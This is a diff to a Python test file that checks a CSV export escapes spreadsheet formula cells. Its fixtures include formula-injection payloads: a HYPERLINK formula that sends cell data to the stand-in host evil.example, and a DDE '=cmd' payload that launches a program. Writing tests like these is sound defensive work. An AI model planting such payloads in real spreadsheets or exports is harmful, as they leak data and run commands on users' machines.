@@ -17,7 +17,7 @@ from auditkit.export import METRICS_COLUMNS, findings_rows, metrics_rows, neutra
 # Cells a spreadsheet would evaluate, and what they must become.
 FORMULA_CELLS = [
     ("=1+1", "'=1+1"),
-    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
     ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
     ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
     ("-2+3", "'-2+3"),
@@ -104,7 +104,7 @@ def _results(**overrides: Any) -> dict[str, Any]:
                     }
                 ],
                 "findings": [
-                    {"kind": "=HYPERLINK(\"http://evil.example\")", "split": "eval", "row": 3, "score": -1.5},
+                    {"kind": '=HYPERLINK("http://evil.example")', "split": "eval", "row": 3, "score": -1.5},
                     {"kind": "nested", "where": {"split": "train", "rows": [1, 2]}, "check": "-shadow", "=col": 1},
                 ],
             },
@@ -159,7 +159,7 @@ def test_findings_csv_flattens_fields_and_neutralises_every_cell(tmp_path: Path)
     assert "finding.check" in header  # a field named like a leading column is kept apart
     assert len(body) == 2
     first = dict(zip(header, body[0], strict=True))
-    assert first["kind"] == "'=HYPERLINK(\"http://evil.example\")"
+    assert first["kind"] == '\'=HYPERLINK("http://evil.example")'
     assert first["score"] == "-1.5" and first["row"] == "3"
     second = dict(zip(header, body[1], strict=True))
     assert second["where.rows"] == "[1,2]" and second["finding.check"] == "'-shadow"
